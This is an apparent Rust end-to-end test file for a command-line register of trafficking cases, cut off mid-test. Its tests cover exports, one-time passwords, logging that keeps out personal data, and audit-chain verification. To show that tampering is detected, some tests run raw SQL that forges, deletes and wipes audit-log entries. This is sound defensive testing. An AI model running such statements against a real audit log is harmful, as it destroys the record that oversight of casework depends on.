//! The `tabara` binary end to end, on SQLite and on PostgreSQL: what a user types and sees.

use std::process::{Command, Output};

use tabara_store::store_test;
use tabara_store::testing::TestDb;

fn tabara(db: &TestDb, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_tabara"))
        .arg("--database")
        .arg(db.database_arg())
        .args(args)
        .env_remove("TABARA_DATABASE")
        .env_remove("TABARA_ADMIN_PASSWORD")
        .env("TABARA_LANG", "en")
        .output()
        .expect("run tabara")
}

fn ok(out: &Output) -> String {
    assert!(
        out.status.success(),
        "tabara failed: {}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout.clone()).unwrap()
}

/// Run raw SQL against the register, as someone with database access could.
async fn raw_sql(db: &TestDb, sql: &str) {
    use sqlx::Connection;
    match db.sqlite_path() {
        Some(path) => {
            let mut c = sqlx::SqliteConnection::connect(&format!("sqlite://{}", path.display()))
                .await
                .unwrap();
            sqlx::query(sqlx::AssertSqlSafe(sql.to_string()))
                .execute(&mut c)
                .await
                .unwrap();
            c.close().await.unwrap();
        }
        None => {
            let mut c = sqlx::PgConnection::connect(&db.database_arg())
                .await
                .unwrap();
            sqlx::query(sqlx::AssertSqlSafe(sql.to_string()))
                .execute(&mut c)
                .await
                .unwrap();
            c.close().await.unwrap();
        }
    }
}

store_test!(demo_then_read_export_and_verify, |db| async move {
    let out = ok(&tabara(&db, &["demo", "--persons", "400", "--seed", "7"]));
    assert!(out.contains("Demo register ready"), "{out}");
    assert!(out.contains("officer") && out.contains("analyst"), "{out}");

    // The list shows the newest cases and a cursor to the next page.
    let list = ok(&tabara(&db, &["case", "list", "--limit", "5"]));
    let lines: Vec<&str> = list.lines().collect();
    assert!(lines[0].starts_with("CASE"), "{list}");
    assert_eq!(
        lines.iter().filter(|l| l.starts_with("TBR-")).count(),
        5,
        "{list}"
    );
    assert!(list.contains("next page: --after"), "{list}");

    // JSON output is for scripts; filters narrow the list.
    let json: serde_json::Value = serde_json::from_str(&ok(&tabara(
        &db,
        &[
            "--json",
            "case",
            "list",
            "--exploitation",
            "ForcedLabour",
            "--limit",
            "500",
        ],
    )))
    .unwrap();
    let items = json["items"].as_array().unwrap();
    assert!(!items.is_empty());
    for item in items {
        let types: Vec<&str> = item["exploitation_types"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_str().unwrap())
            .collect();
        assert!(types.contains(&"ForcedLabour"), "{item}");
    }
    let bad = tabara(&db, &["case", "list", "--exploitation", "Trafficking"]);
    assert!(!bad.status.success());
    assert!(
        String::from_utf8_lossy(&bad.stderr).contains("--exploitation"),
        "clear error expected"
    );

    // A case shows its persons without names unless asked.
    let number = items[0]["number"].as_i64().unwrap().to_string();
    let show = ok(&tabara(&db, &["case", "show", &number]));
    assert!(show.contains("names hidden"), "{show}");
    let before = db.store.stats().await.unwrap().audit_entries;
    let shown = ok(&tabara(
        &db,
        &[
            "case",
            "show",
            &format!("TBR-{number:0>6}"),
            "--with-identity",
        ],
    ));
    assert!(!shown.contains("names hidden"), "{shown}");
    let after = db.store.stats().await.unwrap().audit_entries;
    assert!(after > before, "reading identities must be audited");

    // The export's header is HTCDS field names; identity only on request.
    let csv = ok(&tabara(&db, &["export", "--format", "csv"]));
    let header = csv.lines().next().unwrap();
    assert!(
        header.starts_with("case_reference,case_opened_on,case_office,prs_Gender,")
            && header.contains("vic_TypeOfExploitation"),
        "{header}"
    );
    assert!(!header.contains("prs_FirstName"));
    let with_id = ok(&tabara(
        &db,
        &["export", "--format", "csv", "--with-identity"],
    ));
    assert!(with_id.lines().next().unwrap().contains("prs_FirstName"));
    let json_export: serde_json::Value =
        serde_json::from_str(&ok(&tabara(&db, &["export", "--format", "json"]))).unwrap();
    assert_eq!(
        json_export.as_array().unwrap().len() + 1,
        csv.lines().count()
    );

    // The chain verifies, then a hand edit is caught and named.
    let verify = ok(&tabara(&db, &["audit", "verify"]));
    assert!(
        verify.starts_with("ok, ") && verify.contains(" entries"),
        "{verify}"
    );
    raw_sql(
        &db,
        "UPDATE audit_log SET actor = 'user:forged' WHERE seq = 12",
    )
    .await;
    let broken = tabara(&db, &["audit", "verify"]);
    assert_eq!(broken.status.code(), Some(1));
    let text = String::from_utf8_lossy(&broken.stdout);
    assert!(text.contains("BROKEN at entry 12"), "{text}");
    let french = tabara(&db, &["--lang", "fr", "audit", "verify"]);
    let text = String::from_utf8_lossy(&french.stdout);
    assert!(text.contains("ROMPU à l'entrée 12"), "{text}");
    db.finish().await;
});

store_test!(init_creates_an_administrator_once, |db| async move {
    db.store.close().await;
    let out = ok(&tabara(&db, &["init", "--admin-username", "root-admin"]));
    assert!(out.contains("Administrator: root-admin"), "{out}");
    assert!(out.contains("Password (shown once"), "{out}");
    let again = tabara(&db, &["init"]);
    assert!(!again.status.success());
    assert!(String::from_utf8_lossy(&again.stderr).contains("already has user accounts"));
    let demo = tabara(&db, &["demo", "--persons", "10"]);
    assert!(
        !demo.status.success(),
        "demo must not mix with existing data"
    );
    assert!(String::from_utf8_lossy(&demo.stderr).contains("--reset"));
    db.finish().await;
});

#[test]
fn missing_database_is_a_clear_error() {
    let dir = std::env::temp_dir().join(format!("tabara-cli-{}", std::process::id()));
    let path = dir.join("nothing-here.db");
    let out = Command::new(env!("CARGO_BIN_EXE_tabara"))
        .args(["--database", path.to_str().unwrap(), "case", "list"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("no Tabara database") || err.contains("does not exist"),
        "{err}"
    );
    assert!(!path.exists(), "a typo must not create an empty register");
    let bad_ref = Command::new(env!("CARGO_BIN_EXE_tabara"))
        .args(["case", "show", "TBR-abc"])
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&bad_ref.stderr).contains("is not a case reference"));
}

#[test]
fn every_command_has_help() {
    for args in [
        vec!["--help"],
        vec!["init", "--help"],
        vec!["demo", "--help"],
        vec!["case", "list", "--help"],
        vec!["case", "show", "--help"],
        vec!["audit", "verify", "--help"],
        vec!["audit", "log", "--help"],
        vec!["export", "--help"],
        vec!["serve", "--help"],
        vec!["user", "add", "--help"],
        vec!["user", "reset", "--help"],
    ] {
        let out = Command::new(env!("CARGO_BIN_EXE_tabara"))
            .args(&args)
            .output()
            .unwrap();
        assert!(out.status.success(), "{args:?}");
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            text.contains("Usage:") && text.lines().count() > 4,
            "{args:?}: {text}"
        );
    }
}

#[test]
fn output_follows_the_chosen_language() {
    let dir = std::env::temp_dir().join(format!("tabara-cli-lang-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let db = dir.join("t.db");
    let run = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_tabara"))
            .arg("--database")
            .arg(&db)
            .args(args)
            .env_remove("TABARA_LANG")
            .output()
            .unwrap()
    };
    assert!(
        run(&["demo", "--persons", "50", "--lang", "fr"])
            .status
            .success()
    );
    let fr =
        String::from_utf8(run(&["--lang", "fr", "case", "list", "--limit", "3"]).stdout).unwrap();
    assert!(fr.starts_with("DOSSIER"), "{fr}");
    assert!(fr.contains("page suivante"), "{fr}");
    let en =
        String::from_utf8(run(&["--lang", "en", "case", "list", "--limit", "3"]).stdout).unwrap();
    assert!(en.starts_with("CASE") && en.contains("next page"), "{en}");
    let missing = run(&["--lang", "fr", "case", "show", "99999"]);
    let err = String::from_utf8_lossy(&missing.stderr);
    assert!(
        err.contains("erreur: dossier TBR-099999 introuvable"),
        "{err}"
    );
    std::fs::remove_dir_all(&dir).unwrap();
}

/// Every catalogue key the command line uses exists in English (and so, by the catalogue's own
/// test, in French).
#[test]
fn every_key_used_exists() {
    let src = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
    let catalogue = tabara_i18n::catalogue();
    let mut checked = 0;
    for file in ["main.rs", "commands.rs", "output.rs"] {
        let text = std::fs::read_to_string(src.join(file)).unwrap();
        for literal in text.split('"').skip(1).step_by(2) {
            let looks_like_key = literal.contains('-')
                && literal.chars().all(|c| c.is_ascii_lowercase() || c == '-')
                && !literal.starts_with('-')
                && !literal.ends_with('-');
            if looks_like_key {
                assert!(
                    catalogue.has(tabara_core::Lang::En, literal),
                    "{file}: key {literal} missing"
                );
                checked += 1;
            }
        }
    }
    assert!(checked > 40, "only {checked} keys found");
}

store_test!(user_accounts_from_the_command_line, |db| async move {
    ok(&tabara(&db, &["demo", "--persons", "20"]));
    let add = Command::new(env!("CARGO_BIN_EXE_tabara"))
        .args([
            "--database",
            &db.database_arg(),
            "user",
            "add",
            "--username",
            "opj.kabura",
            "--display-name",
            "OPJ Kabura",
            "--role",
            "investigator",
            "--organisation",
            "Police Judiciaire",
            "--office",
            "Gitega",
        ])
        .env("TABARA_LANG", "en")
        .env_remove("TABARA_USER_PASSWORD")
        .output()
        .unwrap();
    let text = ok(&add);
    assert!(
        text.contains("Account opj.kabura created (Investigator)."),
        "{text}"
    );
    assert!(text.contains("One-time password (shown once"), "{text}");
    let u = db
        .store
        .user_by_username("opj.kabura")
        .await
        .unwrap()
        .unwrap();
    assert_eq!(u.role, tabara_core::Role::Investigator);
    let offices = db.store.offices().await.unwrap();
    assert_eq!(
        offices
            .iter()
            .find(|o| Some(o.id) == u.office_id)
            .unwrap()
            .name,
        "Commissariat PJ de Gitega"
    );

    let dup = tabara(
        &db,
        &[
            "user",
            "add",
            "--username",
            "opj.kabura",
            "--display-name",
            "x",
            "--role",
            "officer",
            "--organisation",
            "PAFE",
        ],
    );
    assert!(!dup.status.success());
    assert!(String::from_utf8_lossy(&dup.stderr).contains("already exists"));
    let bad_role = tabara(
        &db,
        &[
            "user",
            "add",
            "--username",
            "x1",
            "--display-name",
            "x",
            "--role",
            "chief",
            "--organisation",
            "PAFE",
        ],
    );
    assert!(String::from_utf8_lossy(&bad_role.stderr).contains("'chief' is not a role"));
    let ambiguous = tabara(
        &db,
        &[
            "user",
            "add",
            "--username",
            "x2",
            "--display-name",
            "x",
            "--role",
            "officer",
            "--organisation",
            "Burundi",
        ],
    );
    assert!(
        String::from_utf8_lossy(&ambiguous.stderr).contains("matches several"),
        "{}",
        String::from_utf8_lossy(&ambiguous.stderr)
    );

    assert!(ok(&tabara(&db, &["user", "disable", "opj.kabura"])).contains("disabled"));
    assert!(db.store.user(u.id).await.unwrap().disabled);
    assert!(ok(&tabara(&db, &["user", "enable", "opj.kabura"])).contains("enabled"));
    let before = db
        .store
        .credentials("opj.kabura")
        .await
        .unwrap()
        .unwrap()
        .password_hash;
    assert!(ok(&tabara(&db, &["user", "reset", "opj.kabura"])).contains("new one-time password"));
    assert_ne!(
        db.store
            .credentials("opj.kabura")
            .await
            .unwrap()
            .unwrap()
            .password_hash,
        before
    );
    let actions: Vec<String> = db
        .store
        .audit_trail("user", &u.id.to_string())
        .await
        .unwrap()
        .into_iter()
        .map(|e| e.action)
        .collect();
    assert_eq!(
        actions,
        [
            "user.create",
            "user.one_time_credential",
            "user.disable",
            "user.enable",
            "user.one_time_credential"
        ]
    );
    let unknown = tabara(&db, &["user", "disable", "nobody"]);
    assert!(String::from_utf8_lossy(&unknown.stderr).contains("no account named 'nobody'"));
    db.finish().await;
});

store_test!(demo_reset_replaces_a_register, |db| async move {
    ok(&tabara(&db, &["demo", "--persons", "30", "--seed", "1"]));
    ok(&tabara(
        &db,
        &["user", "token", "investigator", "--name", "sync"],
    ));
    let again = ok(&tabara(
        &db,
        &["demo", "--persons", "40", "--seed", "2", "--reset"],
    ));
    assert!(again.contains("Demo register ready"), "{again}");
    let stats = db.store.stats().await.unwrap();
    assert!((40..50).contains(&stats.persons), "{stats:?}");
    assert!(ok(&tabara(&db, &["audit", "verify"])).starts_with("ok, "));
    db.finish().await;
});

store_test!(
    demo_reset_serve_prints_the_address_and_accounts_then_serves,
    |db| async move {
        use std::io::{BufRead, BufReader, Read, Write};
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let listen = format!("127.0.0.1:{port}");
        let mut child = Command::new(env!("CARGO_BIN_EXE_tabara"))
            .arg("--database")
            .arg(db.database_arg())
            .args([
                "demo",
                "--reset",
                "--persons",
                "300",
                "--serve",
                "--listen",
                &listen,
            ])
            .env("TABARA_LANG", "en")
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
        let mut seen = String::new();
        for line in lines.by_ref() {
            let line = line.unwrap();
            seen.push_str(&line);
            seen.push('\n');
            if line.contains("serving at") {
                break;
            }
        }
        assert!(seen.contains(&format!("http://{listen}/")), "{seen}");
        for role in ["officer", "supervisor", "childprotection", "admin"] {
            assert!(seen.contains(role), "{role} missing from\n{seen}");
        }
        assert!(seen.contains("tabara-demo-2026"), "{seen}");
        // The address answers: the sign-in page, over plain HTTP/1.1.
        let mut stream = std::net::TcpStream::connect(&listen).unwrap();
        write!(
            stream,
            "GET /signin HTTP/1.1\r\nHost: {listen}\r\nConnection: close\r\n\r\n"
        )
        .unwrap();
        let mut reply = String::new();
        stream.read_to_string(&mut reply).unwrap();
        assert!(reply.starts_with("HTTP/1.1 200"), "{reply}");
        assert!(reply.contains("name=\"username\""));
        child.kill().unwrap();
        child.wait().unwrap();
        db.finish().await;
    }
);

store_test!(
    screening_explain_prints_outcome_reasons_and_decision,
    |db| async move {
        use std::collections::BTreeMap;
        use tabara_core::htcds::TraffickingStatus;
        use tabara_core::ids::ScreeningId;
        use tabara_core::palermo::{Fact, MovementFacts};
        use tabara_core::screening::{AgeFacts, Answer, Catalogue};
        use tabara_store::{Actor, CaseFilter, DecisionKind, PageRequest};
        ok(&tabara(&db, &["demo", "--persons", "200", "--seed", "3"]));
        let store = &db.store;
        let case = store
            .list_cases(
                &CaseFilter::default(),
                PageRequest {
                    after: None,
                    limit: 1,
                },
            )
            .await
            .unwrap()
            .items
            .remove(0);
        let person = store.case_persons(case.id).await.unwrap()[0].person.id;
        let actor = Actor::system("test");
        let catalogue = Catalogue::embedded().unwrap();
        let id = ScreeningId::new();
        store
            .create_screening(&actor, id, case.id, person, &catalogue.version)
            .await
            .unwrap();
        let answers: BTreeMap<String, Answer> =
            ["act_transported", "d4_hours", "d4_pay", "d4_living"]
                .into_iter()
                .map(|k| (k.to_string(), Answer::Yes))
                .collect();
        let age = AgeFacts {
            age: Some(15),
            ..Default::default()
        };
        let movement = MovementFacts {
            act: Fact::Yes,
            exploitation: Fact::Yes,
            child: Fact::Yes,
            illegal_crossing: Fact::No,
            ..Default::default()
        };
        let v = store
            .save_screening(&actor, id, 1, &answers, &age, &movement)
            .await
            .unwrap();
        // A draft is explained as provisional.
        let draft = ok(&tabara(&db, &["screening", "explain", &id.to_string()]));
        assert!(draft.contains("draft, provisional result"), "{draft}");
        let done = store
            .complete_screening(&actor, id, v, catalogue)
            .await
            .unwrap();
        let officer = store.user_by_username("officer").await.unwrap().unwrap();
        store
            .decide_screening(
                &Actor::user(officer.id),
                id,
                done.version,
                tabara_store::DecisionInput {
                    kind: DecisionKind::Confirmed,
                    status: None,
                    reason: "",
                    decided_by: tabara_core::htcds::DecisionMakingOrg::Police,
                },
            )
            .await
            .unwrap();
        let out = ok(&tabara(&db, &["screening", "explain", &id.to_string()]));
        assert!(
            out.contains(&format!("by {}", officer.display_name)),
            "the decider by name, not account id:\n{out}"
        );
        for want in [
            "Outcome: Presumed child victim of trafficking",
            "Treated as a child: age 15",
            "The act is shown",
            "Excessive working days or hours",
            "Refer the child to child protection",
            "Trafficking or smuggling: Trafficking indicated",
            "The person is a child: no means are required",
            "Decision: confirmed, Possible victim of trafficking",
        ] {
            assert!(out.contains(want), "missing '{want}' in\n{out}");
        }
        let fr = ok(&tabara(
            &db,
            &["--lang", "fr", "screening", "explain", &id.to_string()],
        ));
        assert!(
            fr.contains("Résultat : Enfant victime présumé de la traite"),
            "{fr}"
        );
        let json: serde_json::Value = serde_json::from_str(&ok(&tabara(
            &db,
            &["--json", "screening", "explain", &id.to_string()],
        )))
        .unwrap();
        assert_eq!(json["outcome"], "presumed_child_victim");
        assert_eq!(
            json["screening"]["decision"]["status"],
            serde_json::json!(TraffickingStatus::PossibleVictimOfTrafficking)
        );
        assert!(json["reasons"].as_array().unwrap().len() >= 3);

        let bad = tabara(&db, &["screening", "explain", "not-an-id"]);
        assert!(!bad.status.success());
        assert!(String::from_utf8_lossy(&bad.stderr).contains("is not a screening id"));
        let missing = tabara(
            &db,
            &["screening", "explain", &ScreeningId::new().to_string()],
        );
        assert!(!missing.status.success());
        assert!(String::from_utf8_lossy(&missing.stderr).contains("not found"));
        db.finish().await;
    }
);

store_test!(demo_has_screenings_with_every_outcome, |db| async move {
    use std::collections::BTreeSet;
    use tabara_store::{CaseFilter, PageRequest};
    let out = ok(&tabara(&db, &["demo", "--persons", "1000", "--seed", "5"]));
    assert!(out.contains("120 screenings of victims"), "{out}");
    assert!(
        out.contains("3 training sessions with 100 participants"),
        "{out}"
    );
    assert!(
        out.contains("51 distributions of awareness materials"),
        "{out}"
    );
    let cases = db
        .store
        .list_cases(
            &CaseFilter::default(),
            PageRequest {
                after: None,
                limit: 200,
            },
        )
        .await
        .unwrap()
        .items;
    let mut outcomes = BTreeSet::new();
    let (mut drafts, mut overridden) = (0, 0);
    for c in &cases {
        for p in db.store.case_persons(c.id).await.unwrap() {
            for s in db.store.person_screenings(p.person.id, 10).await.unwrap() {
                match &s.evaluation {
                    Some(e) => {
                        outcomes.insert(e.outcome.as_str());
                    }
                    None => drafts += 1,
                }
                if s.decision
                    .as_ref()
                    .is_some_and(|d| d.kind == tabara_store::DecisionKind::Overridden)
                {
                    overridden += 1;
                }
            }
        }
    }
    assert_eq!(
        outcomes.into_iter().collect::<Vec<_>>(),
        vec![
            "exploitation_only",
            "needs_full_interview",
            "no_indicators",
            "presumed_child_victim",
            "presumed_victim"
        ]
    );
    assert!(drafts > 0 && overridden > 0);
    db.finish().await;
});

// ---------------------------------------------------------------- issue 10: lead

store_test!(
    serve_logs_each_request_without_personal_data,
    |db| async move {
        use std::io::{BufRead, BufReader, Read, Write};
        ok(&tabara(&db, &["demo", "--persons", "60", "--seed", "4"]));
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let listen = format!("127.0.0.1:{port}");
        let mut child = Command::new(env!("CARGO_BIN_EXE_tabara"))
            .arg("--database")
            .arg(db.database_arg())
            .args(["serve", "--listen", &listen])
            .env("TABARA_LANG", "en")
            .env("TABARA_LOG_FORMAT", "json")
            .env_remove("TABARA_LOG")
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
        for line in lines.by_ref() {
            if line.unwrap().contains("serving at") {
                break;
            }
        }
        let request = |path: &str| {
            let mut stream = std::net::TcpStream::connect(&listen).unwrap();
            write!(
                stream,
                "GET {path} HTTP/1.1\r\nHost: {listen}\r\nConnection: close\r\n\r\n"
            )
            .unwrap();
            let mut reply = String::new();
            stream.read_to_string(&mut reply).unwrap();
            reply
        };
        let searched = request("/cases?q=Ndayishimiye");
        assert!(searched.starts_with("HTTP/1.1 303"), "{searched}");
        let id = searched
            .lines()
            .find_map(|l| l.strip_prefix("x-request-id: "))
            .expect("a request id in the answer")
            .trim()
            .to_string();
        assert!(request("/nothing/here").starts_with("HTTP/1.1 404"));
        child.kill().unwrap();
        let mut log = String::new();
        child
            .stderr
            .take()
            .unwrap()
            .read_to_string(&mut log)
            .unwrap();
        child.wait().unwrap();
        assert!(
            !log.contains("Ndayishimiye"),
            "a searched name reached the log:\n{log}"
        );
        let entries: Vec<serde_json::Value> = log
            .lines()
            .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
            .collect();
        let response = |status: u64| {
            entries
                .iter()
                .find(|e| e["status"] == status)
                .unwrap_or_else(|| panic!("no response {status} logged:\n{log}"))
        };
        let first = response(303);
        assert_eq!(first["span"]["request_id"], id.as_str(), "{first}");
        assert_eq!(first["span"]["route"], "/cases", "{first}");
        assert_eq!(first["span"]["method"], "GET", "{first}");
        assert!(first["latency_ms"].as_f64().is_some(), "{first}");
        assert_eq!(response(404)["span"]["route"], "(no route)");
        db.finish().await;
    }
);

store_test!(
    command_line_accounts_get_one_time_passwords,
    |db| async move {
        ok(&tabara(&db, &["demo", "--persons", "20"]));
        let add = Command::new(env!("CARGO_BIN_EXE_tabara"))
            .args([
                "--database",
                &db.database_arg(),
                "user",
                "add",
                "--username",
                "opj.ndayishimiye",
                "--display-name",
                "OPJ Ndayishimiye",
                "--role",
                "investigator",
                "--organisation",
                "Police Judiciaire",
            ])
            .env("TABARA_LANG", "en")
            .env("TABARA_USER_PASSWORD", "Chosen-by-operator-1")
            .output()
            .unwrap();
        ok(&add);
        // Even a password the operator chose is only a one-time credential.
        let c = db
            .store
            .credentials("opj.ndayishimiye")
            .await
            .unwrap()
            .unwrap();
        assert!(c.must_change_password);
        let expires = c
            .one_time_expires_at
            .expect("a one-time credential expires");
        let hours = (expires - chrono::Utc::now()).num_hours();
        assert!((71..=72).contains(&hours), "{hours}");
        assert!(tabara_core::password::verify_password(
            "Chosen-by-operator-1",
            &c.password_hash
        ));
        // A reset gives a new one-time credential; the demo accounts keep the demo password.
        let reset = ok(&tabara(&db, &["user", "reset", "investigator"]));
        let one_time = reset
            .split("choose a new password): ")
            .nth(1)
            .unwrap()
            .trim()
            .to_string();
        let c = db.store.credentials("investigator").await.unwrap().unwrap();
        assert!(c.must_change_password && c.one_time_expires_at.is_some());
        assert!(tabara_core::password::verify_password(
            &one_time,
            &c.password_hash
        ));
        let officer = db.store.credentials("officer").await.unwrap().unwrap();
        assert!(!officer.must_change_password);
        assert!(tabara_core::password::verify_password(
            tabara_demo::DEMO_PASSWORD,
            &officer.password_hash
        ));
        let notice = db.store.reset_notice(c.user.id).await.unwrap().unwrap();
        assert_eq!((notice.by, notice.approved_by), (None, None));
        db.finish().await;
    }
);

// ================================================================ issue 10: command line

store_test!(audit_verify_catches_a_cut_or_wiped_log, |db| async move {
    ok(&tabara(&db, &["demo", "--persons", "120", "--seed", "9"]));
    let verify = ok(&tabara(&db, &["audit", "verify"]));
    assert!(verify.starts_with("ok, "), "{verify}");
    let entries = db.store.audit_entries(0, 100_000).await.unwrap();
    // Cut the last ten entries and move the head back: the chain alone looks whole.
    let keep = &entries[entries.len() - 11];
    raw_sql(
        &db,
        &format!("DELETE FROM audit_log WHERE seq > {}", keep.seq),
    )
    .await;
    raw_sql(
        &db,
        &format!(
            "UPDATE audit_head SET seq = {}, hash = '{}' WHERE id = 1",
            keep.seq, keep.hash
        ),
    )
    .await;
    let cut = tabara(&db, &["audit", "verify"]);
    assert_eq!(cut.status.code(), Some(1));
    let text = String::from_utf8_lossy(&cut.stdout);
    assert!(
        text.contains(&format!("BROKEN at entry {}", keep.seq + 1))
            && text.contains("records of kind material_movement")
            && text.contains("entries were removed from the end"),
        "{text}"
    );
    let french = tabara(&db, &["--lang", "fr", "audit", "verify"]);
    assert!(
        String::from_utf8_lossy(&french.stdout).contains("supprimées à la fin du journal"),
        "{}",
        String::from_utf8_lossy(&french.stdout)
    );
    // Everything wiped and the head set back to zero.
    raw_sql(&db, "DELETE FROM audit_log").await;
    raw_sql(
        &db,
        "UPDATE audit_head SET seq = 0, hash = '0000000000000000000000000000000000000000000000000000000000000000' WHERE id = 1",
    )
    .await;
    let wiped = tabara(&db, &["audit", "verify"]);
    assert_eq!(wiped.status.code(), Some(1));
    let text = String::from_utf8_lossy(&wiped.stdout);
    assert!(
        text.contains("BROKEN at entry 1") && text.contains("but the log has only 0"),
        "{text}"
    );
    // No head row at all: said in words, not a database error.
    raw_sql(&db, "DELETE FROM audit_head").await;
    let headless = tabara(&db, &["audit", "verify"]);
    assert_eq!(headless.status.code(), Some(1));
    let text = String::from_utf8_lossy(&headless.stdout);
    assert!(text.contains("the chain head"), "{text}");
    assert!(
        !String::from_utf8_lossy(&headless.stderr).contains("database error"),
        "{}",
        String::from_utf8_lossy(&headless.stderr)
    );
    db.finish().await;
});

/// A reader that stops early: the output goes into a pipe whose reading end is already closed.
fn into_closed_pipe(db: &TestDb, args: &[&str]) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_tabara"))
        .arg("--database")
        .arg(db.database_arg())
        .args(args)
        .env("TABARA_LANG", "en")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    child.wait_with_output().unwrap()
}

store_test!(a_closed_pipe_ends_output_quietly, |db| async move {
    ok(&tabara(&db, &["demo", "--persons", "300", "--seed", "2"]));
    let list: serde_json::Value = serde_json::from_str(&ok(&tabara(
        &db,
        &["--json", "case", "list", "--limit", "1"],
    )))
    .unwrap();
    let number = list["items"][0]["number"].as_i64().unwrap().to_string();
    for args in [
        vec!["case", "list", "--limit", "500"],
        vec!["--json", "case", "list", "--limit", "500"],
        vec!["case", "show", &number],
        vec!["audit", "log", "--limit", "2000"],
        vec!["export", "--format", "csv"],
        vec!["export", "--format", "json"],
    ] {
        let out = into_closed_pipe(&db, &args);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(0), "{args:?}: {err}");
        assert!(!err.contains("panicked"), "{args:?}: {err}");
    }
    db.finish().await;
});

store_test!(
    unknown_screening_and_picklist_values_in_words,
    |db| async move {
        ok(&tabara(&db, &["demo", "--persons", "200", "--seed", "4"]));
        let missing = tabara(
            &db,
            &[
                "screening",
                "explain",
                "0190a0b0-0000-7000-8000-000000000000",
            ],
        );
        assert!(!missing.status.success());
        let err = String::from_utf8_lossy(&missing.stderr);
        assert!(
            err.contains("screening 0190a0b0") && err.contains("not found"),
            "{err}"
        );
        assert!(!err.contains("kind-"), "{err}");
        let french = tabara(
            &db,
            &[
                "--lang",
                "fr",
                "screening",
                "explain",
                "0190a0b0-0000-7000-8000-000000000000",
            ],
        );
        assert!(
            String::from_utf8_lossy(&french.stderr).contains("introuvable"),
            "{}",
            String::from_utf8_lossy(&french.stderr)
        );

        // Statuses in any case, or by their label; the same cases either way.
        let by_name = ok(&tabara(
            &db,
            &[
                "--json", "case", "list", "--status", "FollowUp", "--limit", "500",
            ],
        ));
        for spelling in ["followup", "follow up", "FOLLOWUP"] {
            let other = ok(&tabara(
                &db,
                &[
                    "--json", "case", "list", "--status", spelling, "--limit", "500",
                ],
            ));
            assert_eq!(other, by_name, "{spelling}");
        }
        let active: serde_json::Value = serde_json::from_str(&ok(&tabara(
            &db,
            &[
                "--json", "case", "list", "--status", "active", "--limit", "500",
            ],
        )))
        .unwrap();
        let items = active["items"].as_array().unwrap();
        assert!(!items.is_empty());
        assert!(items.iter().all(|i| i["status"] == "Active"), "{active}");
        let french_label = ok(&tabara(
            &db,
            &[
                "--lang",
                "fr",
                "--json",
                "case",
                "list",
                "--status",
                "Clôturé",
                "--limit",
                "500",
            ],
        ));
        let closed = ok(&tabara(
            &db,
            &[
                "--json", "case", "list", "--status", "Closed", "--limit", "500",
            ],
        ));
        assert_eq!(french_label, closed, "the label in the user's language");
        let bad = tabara(&db, &["case", "list", "--status", "open"]);
        assert!(!bad.status.success());
        let err = String::from_utf8_lossy(&bad.stderr);
        assert!(
            err.contains("--status") && err.contains("Active, FollowUp, Closed, ClosedReferred"),
            "{err}"
        );
        db.finish().await;
    }
);

#[test]
fn an_unsupported_language_is_refused_when_asked_for() {
    let run = |args: &[&str], env_lang: Option<&str>| {
        let mut c = Command::new(env!("CARGO_BIN_EXE_tabara"));
        c.args(args).env_remove("TABARA_LANG").env("LANG", "C");
        if let Some(l) = env_lang {
            c.env("TABARA_LANG", l);
        }
        c.output().unwrap()
    };
    let out = run(&["--lang", "de", "case", "show", "TBR-abc"], None);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("'de'") && err.contains("en, fr, rn"), "{err}");
    // From the environment, an unknown language falls back to English.
    let out = run(&["case", "show", "TBR-abc"], Some("de"));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("is not a case reference"), "{err}");
    let out = run(&["--lang", "fr-BI", "case", "show", "TBR-abc"], None);
    assert!(
        !String::from_utf8_lossy(&out.stderr).contains("n'est pas une langue"),
        "a regional French tag is French"
    );
}

store_test!(
    export_carries_the_case_and_neutralises_formulas,
    |db| async move {
        use tabara_store::Actor;
        ok(&tabara(&db, &["demo", "--persons", "150", "--seed", "8"]));
        let csv = ok(&tabara(&db, &["export", "--format", "csv"]));
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
        assert_eq!(
            &header[..4],
            [
                "case_reference",
                "case_opened_on",
                "case_office",
                "prs_Gender"
            ]
        );
        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
        assert!(
            rows.iter()
                .all(|r| r[0].starts_with("TBR-") && r[1].len() == 10)
        );
        assert!(rows.iter().any(|r| !r[2].is_empty()), "offices are named");
        let json: serde_json::Value =
            serde_json::from_str(&ok(&tabara(&db, &["export", "--format", "json"]))).unwrap();
        let first = &json.as_array().unwrap()[0];
        assert_eq!(first["case_reference"], rows[0][0].to_string());
        assert_eq!(first["case_opened_on"], rows[0][1].to_string());

        // A victim named like a spreadsheet formula.
        let list: serde_json::Value = serde_json::from_str(&ok(&tabara(
            &db,
            &["--json", "case", "list", "--limit", "1"],
        )))
        .unwrap();
        let number = list["items"][0]["number"].as_i64().unwrap();
